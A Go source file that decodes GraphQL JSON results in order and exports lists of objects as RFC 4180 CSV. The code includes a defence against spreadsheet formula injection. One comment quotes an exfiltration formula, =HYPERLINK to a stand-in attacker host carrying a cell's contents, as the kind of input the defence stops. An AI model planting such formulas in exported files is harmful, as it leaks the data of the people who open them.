package gqlwork

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"
)

// A result's JSON, decoded with its members in order (encoding/json's maps
// would sort them, and a table's columns should come as the query asked).
type member struct {
	key string
	val any // *object, []any, json.Number, string, bool or nil
}

type object struct{ members []member }

func decodeOrdered(data []byte) (any, error) {
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.UseNumber()
	v, err := decodeValue(dec)
	if err != nil {
		return nil, err
	}
	if _, err := dec.Token(); err != io.EOF {
		return nil, errors.New("gqlwork: more than one JSON value")
	}
	return v, nil
}

func decodeValue(dec *json.Decoder) (any, error) {
	tok, err := dec.Token()
	if err != nil {
		return nil, err
	}
	switch tok {
	case json.Delim('{'):
		o := &object{}
		for dec.More() {
			k, err := dec.Token()
			if err != nil {
				return nil, err
			}
			v, err := decodeValue(dec)
			if err != nil {
				return nil, err
			}
			o.members = append(o.members, member{key: k.(string), val: v})
		}
		_, err := dec.Token()
		return o, err
	case json.Delim('['):
		list := []any{}
		for dec.More() {
			v, err := decodeValue(dec)
			if err != nil {
				return nil, err
			}
			list = append(list, v)
		}
		_, err := dec.Token()
		return list, err
	}
	return tok, nil
}

// Table is a list of objects in a result, which CSV can write as rows.
type Table struct {
	Path []string // the member names from the result's top to the list, such as reportData, reports, data
	Rows int
}

// Name is the table's path with dots: "reportData.reports.data".
func (t Table) Name() string { return strings.Join(t.Path, ".") }

// Tables lists the lists of objects in a result's data, outermost first, in
// the order they appear. Lists inside such a list's items are not listed
// (they become a cell of their row).
func Tables(data []byte) ([]Table, error) {
	v, err := decodeOrdered(data)
	if err != nil {
		return nil, err
	}
	var out []Table
	var walk func(v any, path []string)
	walk = func(v any, path []string) {
		switch v := v.(type) {
		case *object:
			for _, m := range v.members {
				walk(m.val, append(path[:len(path):len(path)], m.key))
			}
		case []any:
			if len(v) > 0 && allObjects(v) {
				out = append(out, Table{Path: path, Rows: len(v)})
			}
		}
	}
	walk(v, nil)
	return out, nil
}

func allObjects(list []any) bool {
	for _, v := range list {
		if _, ok := v.(*object); !ok && v != nil {
			return false
		}
	}
	return true
}

// CSV writes the list of objects at path in a result's data as CSV (RFC
// 4180, CRLF line ends): a header row, then one row per object. Nested
// objects become dotted columns ("zone.name"); a nested list is written as
// its JSON; null and missing members are empty cells. Columns come in the
// order their members first appear.
func CSV(data []byte, path []string) (string, error) {
	v, err := decodeOrdered(data)
	if err != nil {
		return "", err
	}
	for _, key := range path {
		o, ok := v.(*object)
		if !ok {
			return "", fmt.Errorf("gqlwork: the result has no %s", strings.Join(path, "."))
		}
		found := false
		for _, m := range o.members {
			if m.key == key {
				v, found = m.val, true
				break
			}
		}
		if !found {
			return "", fmt.Errorf("gqlwork: the result has no %s", strings.Join(path, "."))
		}
	}
	list, ok := v.([]any)
	if !ok || !allObjects(list) {
		return "", fmt.Errorf("gqlwork: %s is not a list of objects", strings.Join(path, "."))
	}
	var columns []string
	index := map[string]int{}
	rows := make([]map[string]string, len(list))
	for i, item := range list {
		row := map[string]string{}
		var flatten func(o *object, prefix string)
		flatten = func(o *object, prefix string) {
			for _, m := range o.members {
				key := prefix + m.key
				if sub, ok := m.val.(*object); ok {
					flatten(sub, key+".")
					continue
				}
				if _, seen := index[key]; !seen {
					index[key] = len(columns)
					columns = append(columns, key)
				}
				row[key] = cell(m.val)
			}
		}
		if o, ok := item.(*object); ok {
			flatten(o, "")
		}
		rows[i] = row
	}
	// A member that is null in some rows and an object in others is the
	// object's dotted columns only.
	kept := columns[:0:0]
	for _, c := range columns {
		if !(hasPrefixed(columns, c+".") && allEmpty(rows, c)) {
			kept = append(kept, c)
		}
	}
	columns = kept
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.UseCRLF = true
	if err := w.Write(columns); err != nil {
		return "", err
	}
	record := make([]string, len(columns))
	for _, row := range rows {
		for i, c := range columns {
			record[i] = row[c]
		}
		if err := w.Write(record); err != nil {
			return "", err
		}
	}
	w.Flush()
	return b.String(), w.Error()
}

// cell is a value as a CSV cell: numbers as sent, a list as JSON, text
// defused (safeText).
func cell(v any) string {
	switch v := v.(type) {
	case nil:
		return ""
	case string:
		return safeText(v)
	case json.Number:
		return v.String()
	case bool:
		if v {
			return "true"
		}
		return "false"
	}
	b, _ := json.Marshal(plain(v))
	return string(b)
}

// plain turns ordered values back into what encoding/json writes.
func plain(v any) any {
	switch v := v.(type) {
	case *object:
		m := map[string]any{}
		for _, mm := range v.members {
			m[mm.key] = plain(mm.val)
		}
		return m
	case []any:
		out := make([]any, len(v))
		for i, x := range v {
			out[i] = plain(x)
		}
		return out
	}
	return v
}

func hasPrefixed(columns []string, prefix string) bool {
	for _, c := range columns {
		if strings.HasPrefix(c, prefix) {
			return true
		}
	}
	return false
}

func allEmpty(rows []map[string]string, column string) bool {
	for _, r := range rows {
		if r[column] != "" {
			return false
		}
	}
	return true
}

// safeText keeps a text cell from being run as a formula by the spreadsheet
// that opens the file (CSV or formula injection, OWASP): text from the site
// (a report title anyone in a guild can choose, such as
// =HYPERLINK("https://evil.example/?"&A1)) that begins with =, +, -, @, a tab
// or a carriage return gets a leading apostrophe, which spreadsheets show as
// text and do not display. Numbers are json.Number, never text, so a
// negative number stays a number.
func safeText(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return "'" + s
	}
	return s
}
